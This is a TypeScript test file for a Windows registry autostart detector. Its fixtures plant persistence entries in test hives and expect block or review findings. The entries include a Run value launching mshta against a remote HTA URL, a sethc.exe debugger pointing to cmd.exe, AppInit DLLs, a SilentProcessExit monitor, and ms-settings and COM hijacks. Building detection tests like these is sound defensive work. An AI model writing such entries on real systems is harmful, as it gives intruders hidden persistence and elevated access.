import assert from 'node:assert/strict';
import { test } from 'node:test';
import { at, buildHive, merged } from '../../../registry/testing/hive-builder.ts';
import { testCases } from '../../../testing/detector-cases.ts';
import { inspectFixture } from '../../../testing/fixture.ts';
import { registryAutostart } from './index.ts';

const SOFTWARE = 'Windows/System32/config/SOFTWARE';
const SYSTEM = 'Windows/System32/config/SYSTEM';
const USER = 'Users/a/NTUSER.DAT';
const RUN = 'Microsoft\\Windows\\CurrentVersion\\Run';
const NT = 'Microsoft\\Windows NT\\CurrentVersion';

const values = (path: string, given: Record<string, string | number | readonly string[]>) =>
  at(path, { values: given });

const CLEAN_SOFTWARE = merged(
  values(RUN, { SecurityHealth: '%windir%\\system32\\SecurityHealthSystray.exe' }),
  values(`${NT}\\Winlogon`, {
    Shell: 'explorer.exe',
    Userinit: 'C:\\Windows\\system32\\userinit.exe,',
    VmApplet: 'SystemPropertiesPerformance.exe /pagefile',
  }),
  values(`${NT}\\Windows`, { AppInit_DLLs: '', LoadAppInit_DLLs: 0 }),
  at(`${NT}\\Image File Execution Options\\svchost.exe`, { values: { MitigationOptions: 1 } }),
  values('Microsoft\\Active Setup\\Installed Components\\{1}', { StubPath: '/UserInstall' }),
  values('Microsoft\\Active Setup\\Installed Components\\{2}', {
    StubPath:
      '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\1\\Installer\\setup.exe" --configure-user-settings',
  }),
);
const CLEAN_SYSTEM = at('ControlSet001\\Control', {
  keys: {
    Lsa: {
      values: {
        'Security Packages': ['""'],
        'Authentication Packages': ['msv1_0'],
        'Notification Packages': ['rassfm', 'scecli'],
      },
    },
    'Session Manager': { values: { BootExecute: ['autocheck autochk /q /v *'], SetupExecute: [] } },
  },
});

testCases(registryAutostart, [
  {
    name: 'a clean server is silent',
    kind: 'disk',
    files: {
      [SOFTWARE]: buildHive(CLEAN_SOFTWARE),
      [SYSTEM]: buildHive(CLEAN_SYSTEM),
      'Users/Default/NTUSER.DAT': buildHive(
        values(`Software\\${RUN}`, {
          OneDriveSetup: 'C:\\Windows\\SysWOW64\\OneDriveSetup.exe /thfirstsetup',
        }),
      ),
    },
    expected: [],
  },
  {
    name: 'an agent is a note',
    files: {
      [SOFTWARE]: buildHive(
        values(RUN, { VMware: '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr' }),
      ),
    },
    expected: [`note windows/autostart ${SOFTWARE}`],
  },
  {
    name: 'Run keys of machine and user, also of 32-bit programs, whatever the letter case of the path',
    files: {
      'windows/system32/CONFIG/software': buildHive(
        values(`WOW6432Node\\${RUN}Once`, { x: '%PUBLIC%\\x.exe' }),
      ),
      [USER]: buildHive(values(`Software\\${RUN}`, { x: 'mshta http://x.invalid/a.hta' })),
      'Files/Windows/System32/config/DEFAULT': buildHive(
        values('Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run', {
          1: 'C:\\Windows\\Temp\\x.exe',
        }),
      ),
      'Hives/Software_Delta': buildHive(values(RUN, { x: 'C:\\Temp\\x.exe' })),
    },
    expected: [
      'block windows/autostart Files/Windows/System32/config/DEFAULT',
      'block windows/autostart Hives/Software_Delta',
      'block windows/autostart Users/a/NTUSER.DAT',
      'block windows/autostart windows/system32/CONFIG/software',
    ],
  },
  {
    name: 'Winlogon, AppInit, debuggers and monitors',
    files: {
      [SOFTWARE]: buildHive(
        merged(
          values(`${NT}\\Winlogon`, { Shell: 'explorer.exe, C:\\Tools\\x.exe' }),
          values(`${NT}\\Windows`, { AppInit_DLLs: 'C:\\PROGRA~1\\x.dll', LoadAppInit_DLLs: 1 }),
          values(`${NT}\\Image File Execution Options\\sethc.exe`, {
            Debugger: 'C:\\Windows\\System32\\cmd.exe',
          }),
          values(`${NT}\\Image File Execution Options\\taskmgr.exe`, {
            Debugger: '"C:\\Tools\\PROCEXP.EXE"',
          }),
          values(`${NT}\\SilentProcessExit\\notepad.exe`, { MonitorProcess: 'C:\\Users\\Public\\x.exe' }),
        ),
      ),
    },
    expected: [
      `block windows/system-hook ${SOFTWARE}`,
      `block windows/system-hook ${SOFTWARE}`,
      `review windows/system-hook ${SOFTWARE}`,
      `review windows/system-hook ${SOFTWARE}`,
      `review windows/system-hook ${SOFTWARE}`,
    ],
  },
  {
    name: 'packages of the security authority and programs before the session',
    files: {
      [SYSTEM]: buildHive(
        at('ControlSet001\\Control', {
          keys: {
            Lsa: { values: { 'Notification Packages': ['scecli', 'filter'] } },
            'Session Manager': { values: { BootExecute: ['autocheck autochk *', 'x'] } },
          },
        }),
      ),
    },
    expected: [`review windows/system-hook ${SYSTEM}`, `review windows/system-hook ${SYSTEM}`],
  },
  {
    name: 'classes of one user',
    files: {
      'Users/a/AppData/Local/Microsoft/Windows/UsrClass.dat': buildHive(
        merged(
          values('ms-settings\\Shell\\Open\\command', { '': 'C:\\x\\y.exe' }),
          values('CLSID\\{1}\\InprocServer32', { '': 'C:\\Windows\\Temp\\x.dll' }),
          values('CLSID\\{2}\\InprocServer32', {
            '': 'C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\x.dll',
          }),
        ),
      ),
    },
    expected: [
      'block windows/system-hook Users/a/AppData/Local/Microsoft/Windows/UsrClass.dat',
      'block windows/system-hook Users/a/AppData/Local/Microsoft/Windows/UsrClass.dat',
    ],
  },
]);

test('what of a hive cannot be read is a problem', () => {
  for (const data of [
    buildHive(CLEAN_SOFTWARE, { dirty: true }),
    'regf',
    buildHive(CLEAN_SOFTWARE).subarray(0, 4200),
  ]) {
    const { problems } = inspectFixture({ layers: [{ [SOFTWARE]: data }], catalogers: [] }, [
      registryAutostart,
    ]);
    assert.ok(problems.length > 0);
    for (const { code, path } of problems) assert.deepEqual([code, path], ['LIMIT_DETECTOR', SOFTWARE]);
  }
});

test('the evidence has key, value and command', () => {
  const files = { [SOFTWARE]: buildHive(values(RUN, { Start: 'C:\\Windows\\Temp\\x.exe' })) };
  const { findings } = inspectFixture({ layers: [files], catalogers: [] }, [registryAutostart]);
  assert.equal(
    findings[0]?.evidence,
    `${RUN} Start: it lies in a temporary folder: C:\\Windows\\Temp\\x.exe`,
  );
});
